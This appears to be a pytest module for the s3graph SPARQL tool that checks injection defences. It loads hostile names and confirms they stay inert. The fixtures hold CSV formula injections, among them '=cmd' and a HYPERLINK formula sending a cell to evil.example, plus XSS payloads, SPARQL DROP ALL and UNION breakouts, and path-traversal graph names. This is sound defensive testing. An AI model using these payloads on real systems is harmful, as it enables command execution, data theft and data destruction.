"""Injection: no value changes a query's meaning, no label runs in a page, no cell runs in a
spreadsheet, no name leaves its place, and a user's SPARQL is read-only unless allowed.

The hostile data goes in the way an analyst's would: CSV files of partnerships and
organisations whose names are SPARQL, HTML, JavaScript and spreadsheet formulas.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from chromium import Chromium, chromium_path
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rdflib import Literal, URIRef
from rdflib.term import Node
from test_browser import STILL, assert_clean

import s3graph
from s3graph.loading import load_csv
from s3graph.network import View

from conftest import Cli, OxigraphServer

HOSTILE_NAMES = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@A1",
    "<script>window.pwned = 1</script>",
    '<img src=x onerror="window.pwned = 2">',
    '"><svg onload="window.pwned = 3">',
    'Quote " } ; DROP ALL ; #',
    "Line\nbreak } UNION { ?s ?p ?o } # \\u0022",
)
PARTNERSHIP_IDS = tuple(f"p-hostile-{number}" for number in range(len(HOSTILE_NAMES)))
ORGANISATION_IDS = tuple(f"org-hostile-{number}" for number in range(len(HOSTILE_NAMES)))


def csv_text(header: list[str], rows: list[list[str]]) -> str:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


@pytest.fixture(scope="module")
def hostile_store(_store_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An on-disk store with the bundled data and partnerships, organisations and
    memberships whose names try to become code; tests must not change it."""
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "store"
    shutil.copytree(_store_template, path)
    files = {
        "partnerships": csv_text(
            ["partnership_id", "name", "platform", "note"],
            [
                [ident, name, "energy", name]
                for ident, name in zip(PARTNERSHIP_IDS, HOSTILE_NAMES, strict=True)
            ],
        ),
        "organisations": csv_text(
            ["org_id", "name", "type", "region", "note"],
            [
                [ident, name, "cluster", "ES24", name]
                for ident, name in zip(ORGANISATION_IDS, HOSTILE_NAMES, strict=True)
            ],
        ),
        "memberships": csv_text(
            ["partnership_id", "member", "role", "note"],
            [
                [partnership, member, role, name]
                for partnership, organisation, name in zip(
                    PARTNERSHIP_IDS, ORGANISATION_IDS, HOSTILE_NAMES, strict=True
                )
                for member, role in (
                    ("ES24", "lead"),
                    ("FI1D7", "member"),
                    (organisation, "member"),
                )
            ],
        ),
    }
    with s3graph.open_store(str(path), write=True) as store:
        for kind, text in files.items():
            (folder / f"hostile-{kind}.csv").write_text(text, encoding="utf-8")
            load_csv(store, folder / f"hostile-{kind}.csv")
    return path


@pytest.fixture(scope="module")
def hostile(hostile_store: Path) -> Cli:
    return Cli(hostile_store)


def fingerprint(location: str | Path) -> tuple[list[URIRef], int]:
    """The named graphs of a store and its quad count: what a refused command must not change."""
    with s3graph.open_store(str(location)) as store:
        return store.named_graphs(), store.quad_count()


# -- values bound into queries ----------------------------------------------------------------


@pytest.fixture(params=["embedded", "remote"])
def any_store(request: pytest.FixtureRequest) -> Iterator[s3graph.Store]:
    """An empty store: in memory, or on a real Oxigraph server."""
    if request.param == "remote":
        server: OxigraphServer = request.getfixturevalue("oxigraph_server")
        store = s3graph.open_store(server.url)
    else:
        store = s3graph.open_store("memory")
    yield store
    store.close()


ECHO = "SELECT ?value WHERE { }"
DATATYPE = URIRef("https://example.org/datatype#x")
NASTY_TEXT = (
    '"',
    "'",
    '"""',
    "'''",
    "\\",
    '\\"',
    "} } ; DROP ALL ; #",
    '" } UNION { ?s ?p ?o } #',
    "# }",
    "\n} \r\n{",
    "\\u0022) } #",
    "\\U0000007D",
    "<http://evil.example/>",
    "?value",
    "$value",
    "\u202e\u0301\x00\x7f\ufeff",
)


def echoed(store: s3graph.Store, value: Node) -> Node | None:
    """What the store answers when ``value`` is bound into a query that returns it."""
    rows = store.select(ECHO, {"value": value}).rows
    assert len(rows) == 1, rows
    return rows[0][0]


@pytest.mark.parametrize("text", NASTY_TEXT)
def test_a_bound_literal_is_one_value_whatever_it_holds(
    any_store: s3graph.Store, text: str
) -> None:
    for value in (
        Literal(text),
        Literal(text, lang="en"),
        Literal(text, datatype=DATATYPE),
    ):
        assert echoed(any_store, value) == value


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])  # the store is only read
@given(text=st.text())
def test_any_bound_text_comes_back_unchanged(any_store: s3graph.Store, text: str) -> None:
    assert echoed(any_store, Literal(text)) == Literal(text)


@pytest.mark.parametrize(
    "iri",
    [
        "https://example.org/a> <https://example.org/b",
        "https://example.org/a>} ; DROP ALL ; #",
        'https://example.org/"quoted"',
        "https://example.org/a b",
        "https://example.org/{x}",
        "https://example.org/\\u003E",
        "relative/iri",
    ],
)
def test_a_malformed_iri_is_refused_not_pasted(any_store: s3graph.Store, iri: str) -> None:
    with pytest.raises(s3graph.QueryError, match="not an absolute IRI"):
        any_store.select(ECHO, {"value": URIRef(iri)})


def test_a_good_iri_comes_back_unchanged(any_store: s3graph.Store) -> None:
    iri = URIRef("https://example.org/a?b=c&d=%3E#e")
    assert echoed(any_store, iri) == iri


# -- values given on the command line ---------------------------------------------------------


def json_rows(output: str) -> list[dict[str, object]]:
    rows: list[dict[str, object]] = json.loads(output)
    return rows


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_name_given_as_a_parameter_finds_itself_and_nothing_else(
    hostile: Cli, name: str
) -> None:
    found = hostile(
        "query", "--name", "search-names", "--param", f"text={name}", "--format", "json"
    )
    assert found.exit_code == 0, found.output
    partnerships = [row for row in json_rows(found.stdout) if row["kind"] == "partnership"]
    assert [row["name"] for row in partnerships] == [name]
    regions = hostile(
        "query",
        "--name",
        "regions-of-partnership",
        "--param",
        f"partnership={name}",
        "--format",
        "json",
    )
    assert regions.exit_code == 0, regions.output
    assert {row["code"] for row in json_rows(regions.stdout)} == {"ES24", "FI1D7"}


@pytest.mark.parametrize(
    "value",
    ['ES24" } UNION { ?s ?p ?o } #', "ES24 .\n} #", "ES24> <x", "ES24\\u0022"],
)
def test_a_parameter_that_tries_to_break_out_is_an_unknown_name(hostile: Cli, value: str) -> None:
    result = hostile("query", "--name", "partnerships-of-region", "--param", f"region={value}")
    assert result.exit_code == 1
    assert result.output.startswith("Error: ") and result.output.count("\n") == 1
    assert "region" in result.output


# -- spreadsheets -------------------------------------------------------------------------------


def test_csv_output_neutralises_formulas_but_not_numbers(hostile: Cli) -> None:
    result = hostile(
        "query",
        "SELECT ?id ?name WHERE { ?p a s3:Partnership ; dct:identifier ?id ; skos:prefLabel ?name"
        ' FILTER(STRSTARTS(?id, "p-hostile-")) }',
        "--format",
        "csv",
    )
    assert result.exit_code == 0, result.output
    cells = dict(list(csv.reader(io.StringIO(result.stdout)))[1:])
    for ident, name in zip(PARTNERSHIP_IDS, HOSTILE_NAMES, strict=True):
        expected = "'" + name if name[0] in "=+-@" else name
        assert cells[ident] == expected
    longitude = hostile(
        "query", "SELECT ?lon WHERE { nutscode:ES24 geo:long ?lon }", "--format", "csv"
    )
    assert longitude.stdout.splitlines() == ["lon", "-0.6751"]


# -- names that could leave their place ---------------------------------------------------------


@pytest.mark.parametrize(
    "slug",
    ["../../x", "csv/../ontology", "/absolute", "a b", "x#y", "x?y=1", "x>y", "a//b", "ontology"],
)
def test_an_unsafe_graph_name_is_refused(hostile: Cli, tmp_path: Path, slug: str) -> None:
    path = tmp_path / "members.csv"
    path.write_text("partnership_id,member,role\nim-h2valleys,ES24,member\n", encoding="utf-8")
    before = fingerprint(hostile.location)
    result = hostile("load", str(path), "--graph", slug)
    assert result.exit_code == 1
    assert result.output.startswith(f"Error: 1 fault; nothing was written:\n{path}:0: ")
    assert "the graph name is" in result.output and "--graph csv/my-file" in result.output
    assert fingerprint(hostile.location) == before


def test_a_file_name_becomes_a_safe_graph_name(store_path: Path, tmp_path: Path) -> None:
    run = Cli(store_path)
    (tmp_path / "<script>").mkdir()
    path = tmp_path / "<script>" / ".." / "<img src=x> ; DROP #?.csv"
    path.write_text("partnership_id,member,role\nim-h2valleys,ES24,member\n", encoding="utf-8")
    result = run("load", str(path))
    assert result.exit_code == 0, result.output
    assert "into https://w3id.org/s3graph/graph/csv/img-src-x-drop." in result.output


def test_no_output_is_written_into_the_store(store_path: Path) -> None:
    run = Cli(store_path)
    before = fingerprint(store_path)
    for command, target in (
        (["export", "--format", "nq"], store_path / "CURRENT"),
        (["export", "--format", "nq"], store_path / "sub" / ".." / "new.nq"),
        (["view", "region-network"], store_path / "OPTIONS.html"),
    ):
        result = run(*command, "-o", str(target))
        assert result.exit_code == 1
        assert result.output.startswith(f"Error: will not write {target}: it is inside the store")
        assert not target.exists() or target.name == "CURRENT"
    assert fingerprint(store_path) == before


def test_export_leaves_no_partial_file(built_store: s3graph.Store, tmp_path: Path) -> None:
    target = tmp_path / "graph.nq"
    built_store.export(target, s3graph.RdfFormat.NQUADS)
    assert [path.name for path in tmp_path.iterdir()] == ["graph.nq"]


# -- a user's own SPARQL -----------------------------------------------------------------------

UPDATES = (
    "INSERT DATA { GRAPH <urn:x:g> { <urn:x:a> <urn:x:b> <urn:x:c> } }",
    "# a comment first\nDELETE WHERE { ?s ?p ?o }",
    "PREFIX x: <urn:x:> INSERT DATA { x:a x:b x:c }",
    "DROP ALL",
    "CLEAR DEFAULT",
    "\\u0049NSERT DATA { <urn:x:a> <urn:x:b> <urn:x:c> }",
    "WITH <urn:x:g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
)
SERVICES = (
    "SELECT * WHERE { SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } }",
    "select * where { service silent <http://127.0.0.1:9/sparql> { ?s ?p ?o } }",
    "SELECT * WHERE { \\u0053ERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } }",
    "SELECT * WHERE { OPTIONAL { SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } } }",
    "ASK { FILTER EXISTS { SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } } }",
    "SELECT * WHERE { { SELECT * WHERE { SERVICE ?endpoint { ?s ?p ?o } } } }",
    "CONSTRUCT { ?s ?p ?o } WHERE { SERVICE <http://127.0.0.1:9/sparql> { ?s ?p ?o } }",
)


@pytest.mark.parametrize("update", UPDATES)
def test_an_update_is_refused_without_allow_update(hostile: Cli, update: str) -> None:
    before = fingerprint(hostile.location)
    result = hostile("query", update)
    assert result.exit_code == 1
    assert result.output == (
        "Error: updates are not allowed here; s3graph queries are read-only "
        "(pass --allow-update to change the store on purpose)\n"
    )
    assert fingerprint(hostile.location) == before


def test_an_update_in_a_query_file_is_refused_too(hostile: Cli, tmp_path: Path) -> None:
    path = tmp_path / "sneaky.rq"
    path.write_text(UPDATES[1], encoding="utf-8")
    result = hostile("query", "--file", str(path))
    assert result.exit_code == 1 and "updates are not allowed here" in result.output


def test_a_query_file_that_is_not_utf8_is_one_error_line(hostile: Cli, tmp_path: Path) -> None:
    path = tmp_path / "latin-1.rq"
    path.write_bytes('SELECT * WHERE { ?s ?p "Aragón" }'.encode("latin-1"))
    result = hostile("query", "--file", str(path))
    assert result.exit_code == 1
    assert result.output == f"Error: {path}:1: not UTF-8 (byte 28); save the file as UTF-8\n"


@pytest.mark.parametrize("sparql", SERVICES)
def test_service_is_refused_without_allow_service(hostile: Cli, sparql: str) -> None:
    result = hostile("query", sparql)
    assert result.exit_code == 1
    assert result.output == (
        "Error: SERVICE (federated query) is not allowed; pass --allow-service to permit it\n"
    )


def test_load_of_a_url_needs_allow_service_even_with_allow_update(hostile: Cli) -> None:
    result = hostile("query", "--allow-update", "LOAD <http://127.0.0.1:9/data.ttl>")
    assert result.exit_code == 1
    assert "LOAD (of a URL) is not allowed; pass --allow-service" in result.output


def test_allow_update_changes_the_store_on_purpose(run: Cli) -> None:
    update = 'INSERT DATA { GRAPH <urn:x:notes> { <urn:x:a> rdfs:label "added on purpose" } }'
    result = run("query", "--allow-update", update)
    assert result.exit_code == 0, result.output
    assert result.output == "Updated the store.\n"
    found = run("query", "SELECT ?label WHERE { <urn:x:a> rdfs:label ?label }", "--format", "csv")
    assert found.stdout.splitlines() == ["label", "added on purpose"]


def test_allow_service_lets_a_query_reach_another_server(
    hostile: Cli, oxigraph_server: OxigraphServer
) -> None:
    with s3graph.open_store(oxigraph_server.url, write=True) as remote:
        remote.replace_graph(
            URIRef("urn:x:service-test"),
            [(URIRef("urn:x:far"), URIRef("urn:x:says"), Literal("hello from afar"))],
        )
    sparql = (
        f"SELECT ?text WHERE {{ SERVICE <{oxigraph_server.url}/query?union-default-graph> "
        "{ <urn:x:far> <urn:x:says> ?text } }"
    )
    result = hostile("query", "--allow-service", sparql, "--format", "csv")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == ["text", "hello from afar"]


# -- pages ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    chromium = Chromium(tmp_path_factory.mktemp("chromium-profile"))
    yield chromium
    chromium.close()


@pytest.mark.slow
@pytest.mark.skipif(chromium_path() is None, reason="needs chromium (apt-get install chromium)")
@pytest.mark.parametrize("view", [view.value for view in View])
def test_no_view_runs_a_hostile_name(
    hostile: Cli, browser: Chromium, tmp_path: Path, view: str
) -> None:
    page = tmp_path / f"{view}.html"
    result = hostile("view", view, "-o", str(page))
    assert result.exit_code == 0, result.output
    browser.open(page)
    browser.wait_for(STILL)
    assert browser.evaluate("typeof window.pwned") == "undefined"
    assert_clean(browser)
    labels = set(browser.evaluate("network.body.data.nodes.map(node => node.label)"))
    tooltips = browser.evaluate("network.body.data.nodes.map(node => String(node.title))")
    assert any("pwned" in tooltip for tooltip in tooltips), "no hostile name in this view"
    for tooltip in tooltips:  # HTML: every hostile name in it escaped
        assert "<script" not in tooltip and "<img" not in tooltip and "<svg" not in tooltip
    if view != "region-network":  # labels are drawn on a canvas, as text
        assert set(HOSTILE_NAMES) & labels
